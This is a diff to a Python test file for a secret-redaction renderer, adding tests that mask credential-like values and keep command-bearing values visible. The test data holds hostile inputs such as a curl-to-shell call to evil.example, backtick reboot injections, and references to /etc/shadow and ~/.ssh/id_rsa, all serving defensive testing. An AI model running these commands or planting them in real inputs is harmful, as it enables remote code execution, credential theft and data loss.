@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import unicodedata
 from collections.abc import Callable
 from dataclasses import replace
@@ -77,6 +78,46 @@ class TestSecrets:
     def test_counts_are_none(self, name: str, value: object) -> None:
         """Counts of tokens and words that only contain such a name are shown."""
         assert not is_secret(name, value)
+
+    @pytest.mark.parametrize(
+        ("before", "after"),
+        [
+            ("use sk-" + "abcdefghij" * 2 + " now", "use (secret, 23 bytes, sha256 HASH) now"),
+            ("curl -H 'Authorization: Bearer " + "abcdefgh12345678' x", "curl -H 'Authorization: (secret, 23 bytes, sha256 HASH)' x"),
+            ("login password=hunter2 user=carla", "login password=(secret, 7 bytes, sha256 HASH) user=carla"),
+            ("postgres://shop:hunter2@db/x", "postgres://shop:(secret, 7 bytes, sha256 HASH)@db/x"),
+            ("https://b.example/x?sig=abcdefgh12345&se=1", "https://b.example/x?sig=(secret, 13 bytes, sha256 HASH)&se=1"),
+            ('{"api_key": "abc"}', '{\\"api_key\\": \\"(secret, 3 bytes, sha256 HASH)\\"}'),
+            ("AKIA" + "ABCDEFGHIJKLMNOP", "(secret, 20 bytes, sha256 HASH)"),
+        ],
+    )
+    def test_inside_a_text(self, before: str, after: str) -> None:
+        """What looks like a credential inside a text shows length and hash prefix, the rest as it is."""
+        assert f'"{after}"' == re.sub("sha256 [0-9a-f]{8}", "sha256 HASH", rendered(before))
+
+    @pytest.mark.parametrize(
+        "text",
+        [
+            "max_tokens: 500, time_to_first_token: 0.35",
+            "password=$(curl${IFS}evil.example|sh)",
+            "password=`reboot`",
+            "token=/etc/shadow",
+            "token=@/etc/shadow",
+            "token=~/.ssh/id_rsa",
+            "secret=evil.example/x",
+            "token=https://evil.example",
+            "Cookie: a=b; rm -rf x",
+            "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
+            "Authorization: x`reboot`",
+        ],
+    )
+    def test_what_could_act_is_shown(self, text: str) -> None:
+        """A call cannot hide what it does behind the looks of a credential."""
+        assert f'"{visible(text)}"' == rendered(text)
+
+    def test_no_unicode(self) -> None:
+        """A lone surrogate beside a credential shows."""
+        assert "d800" in rendered("password=hunter2 \ud800")
 
     def test_numbers_can_be_secrets(self) -> None:
         """A numeric password is a secret."""
